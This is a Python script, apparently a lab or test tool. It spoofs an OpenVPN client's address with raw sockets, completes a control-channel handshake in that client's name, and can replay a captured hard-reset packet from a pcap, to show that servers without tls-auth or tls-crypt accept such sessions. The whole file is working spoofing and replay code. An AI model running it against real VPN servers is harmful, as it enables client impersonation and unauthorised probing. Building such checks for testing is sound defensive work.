#!/usr/bin/env python3
"""Open a control-channel session in another host's name, as anyone on its path can when the
server uses neither tls-auth nor tls-crypt. Standard library only; run as root in the namespace
of the client whose address is borrowed.

    forge_session.py --host ADDR --port N --from-port SPORT [--timeout S]
    forge_session.py --host ADDR --port N --from-port SPORT --replay-pcap FILE

From UDP port SPORT of this namespace's address (a raw socket, so the real client's socket on
that port is left alone) it sends P_CONTROL_HARD_RESET_CLIENT_V2 with a fresh session id, reads
the server's P_CONTROL_HARD_RESET_SERVER_V2 for that session id off the wire (a packet socket),
completes the three-way handshake with P_ACK_V1 and sends one P_CONTROL_V1 whose payload is not
TLS. Packet layouts: doc "openvpn-protocol.md" (ssl_pkt.h, reliable.c of OpenVPN 2.6).

With --replay-pcap it sends instead, unchanged, the first datagram from SPORT to the server's
port found in FILE (a classic pcap of Ethernet frames, as tcpdump -w writes): the replay of a
client's earlier hard reset, which tls-auth and tls-crypt authenticate like any other.

Exit status 0 when the server answered and the handshake was completed (or the replay was
sent), 1 otherwise.
"""
import argparse
import os
import select
import socket
import struct
import sys
import time

from pcap_udp import udp_datagrams

P_CONTROL_V1 = 4
P_ACK_V1 = 5
P_CONTROL_HARD_RESET_CLIENT_V2 = 7
P_CONTROL_HARD_RESET_SERVER_V2 = 8
ETH_P_IP = 0x0800


def opcode_byte(op, key_id=0):
    return bytes([(op << 3) | key_id])


def send_from(sock, host, port, sport, payload):
    # the kernel writes the IP header; ours is the UDP header (checksum 0: none, RFC 768)
    sock.sendto(struct.pack(">HHHH", sport, port, 8 + len(payload), 0) + payload, (host, 0))


def server_reset_for(ip_packet, host, port, sport, sid):
    """The server's session id if ip_packet is its hard reset acknowledging session id sid."""
    if len(ip_packet) < 20 or ip_packet[0] >> 4 != 4 or ip_packet[9] != 17:
        return None
    if socket.inet_ntoa(ip_packet[12:16]) != host:
        return None
    ihl = (ip_packet[0] & 0x0F) * 4
    udp = ip_packet[ihl:]
    if len(udp) < 8 or struct.unpack(">HH", udp[:4]) != (port, sport):
        return None
    p = udp[8:]
    # opcode | session_id(8) | n_acks(1) | ack ids(4 each) | remote session_id(8) | message_id
    if len(p) < 1 + 8 + 1 + 4 + 8 + 4 or p[0] >> 3 != P_CONTROL_HARD_RESET_SERVER_V2:
        return None
    n_acks = p[9]
    if n_acks != 1 or p[14:22] != sid:
        return None
    return p[1:9]


def first_datagram(path, sport, dport):
    """The payload of the first UDP datagram from sport to dport in a pcap file, or None."""
    return next((p for s, d, p in udp_datagrams(path) if (s, d) == (sport, dport)), None)


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--from-port", type=int, required=True)
    ap.add_argument("--timeout", type=float, default=5.0)
    ap.add_argument("--replay-pcap")
    a = ap.parse_args()

    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    if a.replay_pcap:
        p = first_datagram(a.replay_pcap, a.from_port, a.port)
        if not p:
            print("forge_session: no datagram from port %d to %d in %s"
                  % (a.from_port, a.port, a.replay_pcap))
            return 1
        send_from(raw, a.host, a.port, a.from_port, p)
        print("forge_session: replayed a %d-byte datagram (opcode %d) from port %d"
              % (len(p), p[0] >> 3, a.from_port))
        return 0
    sid = os.urandom(8)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    reset = opcode_byte(P_CONTROL_HARD_RESET_CLIENT_V2) + sid + b"\x00" + struct.pack(">I", 0)
    deadline = time.monotonic() + a.timeout
    server_sid = None
    next_send = 0.0
    while server_sid is None and time.monotonic() < deadline:
        if time.monotonic() >= next_send:
            send_from(raw, a.host, a.port, a.from_port, reset)
            next_send = time.monotonic() + 1.0
        ready, _, _ = select.select([sniff], [], [], 0.2)
        if ready:
            server_sid = server_reset_for(sniff.recv(65535), a.host, a.port, a.from_port, sid)
    if server_sid is None:
        print("forge_session: no P_CONTROL_HARD_RESET_SERVER_V2 for session %s within %.0f s"
              % (sid.hex(), a.timeout))
        return 1
    ack = (opcode_byte(P_ACK_V1) + sid + b"\x01" + struct.pack(">I", 0) + server_sid)
    send_from(raw, a.host, a.port, a.from_port, ack)
    control = (opcode_byte(P_CONTROL_V1) + sid + b"\x00" + struct.pack(">I", 1)
               + b"this is not a TLS record")
    send_from(raw, a.host, a.port, a.from_port, control)
    print("forge_session: session %s from port %d: server session %s, handshake completed, "
          "non-TLS payload sent" % (sid.hex(), a.from_port, server_sid.hex()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
